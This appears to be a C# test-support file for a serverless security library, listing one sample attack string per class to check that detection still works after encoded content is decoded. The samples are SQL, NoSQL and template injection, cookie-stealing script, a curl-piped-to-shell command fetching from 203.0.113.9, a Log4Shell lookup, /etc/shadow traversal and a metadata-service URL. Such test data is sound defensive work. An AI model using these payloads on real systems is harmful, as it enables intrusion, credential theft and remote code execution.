namespace ServerlessShield.Tests.Support;

// One attack of each class that matters inside encoded content (binary records, UTF-16 text): the tests for those
// content kinds check that each is still seen once the content is decoded as the handler decodes it.
internal static class EncodedContentAttacks
{
    public static readonly string[] All =
    [
        "' union select password from users --",
        "<img src=x onerror=alert(document.cookie)>",
        "; curl http://203.0.113.9/x | sh",
        "../../../../etc/shadow",
        "${jndi:ldap://203.0.113.9/a}",
        "{{config.__class__.__init__.__globals__}}",
        "http://169.254.169.254/latest/meta-data/",
        "{\"$where\": \"sleep(5000)\"}",
    ];
}
